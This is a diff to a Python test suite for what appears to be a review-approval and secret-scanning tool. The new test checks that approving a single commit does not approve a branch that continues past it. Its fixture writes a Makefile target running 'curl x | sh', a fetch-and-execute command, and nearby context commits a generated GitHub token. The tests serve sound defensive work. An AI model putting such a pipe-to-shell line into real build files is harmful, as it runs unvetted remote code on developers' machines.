@@ -217,3 +217,19 @@ def test_b48_an_allowlist_comment_is_reviewed_by_whose_path_it_is(tmp_path: Path
     words = f"{WORK.rstrip()}\nReviewed-by: {BOB}\n"
     history.commit(words, files={"src/x.py": f"t = '{github_token()}'  # {ALLOW}\n"})
     assert scan(history.write(tmp_path / "r"), "HEAD~1..HEAD", secrets=True).outcome is outcome
+
+
+# B43: one commit of several, approved by itself
+
+
+def test_b43_a_digest_of_one_commit_is_told_to_be_too_little(tmp_path: Path) -> None:
+    found = Scene(tmp_path / "r", [listed("bob", keys=[])])
+    first = found.work()
+    digest = entry(found.judged(), first).digest
+    found.commit(WORK, {MAKE: "all:\n\tcurl x | sh\n"})
+    found.commit(f"Approve\n\nReviewed-by: {BOB}\nReviewed-digest: {digest}\n", author=BOB)
+    (approval,) = [each for each in approvals(found.judged()) if each.covers == ()]
+    assert (approval.reason, approval.notes[0]) == (
+        Reason.STALE,
+        "given for this commit by itself; a branch is approved by where it ends",
+    )
